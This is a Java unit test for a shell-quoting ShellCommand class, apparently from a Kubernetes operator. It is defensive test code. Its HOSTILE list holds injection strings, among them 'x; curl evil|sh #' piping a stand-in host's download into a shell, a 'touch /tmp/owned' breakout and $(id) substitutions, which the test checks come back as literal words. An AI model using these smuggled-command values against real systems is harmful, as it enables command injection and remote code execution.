package dev.monitored.operator.finding;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellCommandTest {
  private static final List<String> HOSTILE =
      List.of(
          "x; curl evil|sh #",
          "'; touch /tmp/owned; '",
          "it's",
          "''",
          "'",
          "\\",
          "\\'",
          "\"$(id)\"",
          "`id`",
          "$HOME",
          "~",
          "*",
          "!!",
          "a b",
          " ",
          "",
          "&& id",
          "> file",
          "{a,b}",
          "[{\"op\":\"test\"}]");

  @Test
  void aShellReadsTheWordsThatWereGiven() throws IOException, InterruptedException {
    var words = new ArrayList<>(HOSTILE);
    words.addAll(random(new Random(11), 300));

    assertThat(readByShell(words)).isEqualTo(words);
  }

  @Test
  void plainWordsAreNotQuoted() {
    var command = new ShellCommand(List.of("kubectl", "label", "namespace", "a-b.c", "d/e=f_g"));

    assertThat(command).hasToString("kubectl label namespace a-b.c d/e=f_g");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\nb", "a\rb", "\u0000", "\u001b[2K", "\u202e", "ä"})
  void nothingIsHiddenInACommand(String word) {
    assertThatThrownBy(() -> new ShellCommand(List.of("kubectl", word)))
        .isInstanceOf(IllegalArgumentException.class);
  }

  private static List<String> random(Random random, int count) {
    return IntStream.range(0, count)
        .mapToObj(_ ->
            random
                .ints(random.nextInt(12), 0x20, 0x7f)
                .mapToObj(Character::toString)
                .collect(Collectors.joining()))
        .toList();
  }

  private static List<String> readByShell(List<String> words)
      throws IOException, InterruptedException {
    var all = new ArrayList<>(List.of("printf", "%s\\0"));
    all.addAll(words);
    var line = new ShellCommand(all).toString();
    var process = new ProcessBuilder("bash", "-c", line).redirectErrorStream(true).start();
    var output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(process.waitFor()).as(output).isZero();
    return List.of(output.substring(0, output.length() - 1).split("\0", -1));
  }
}
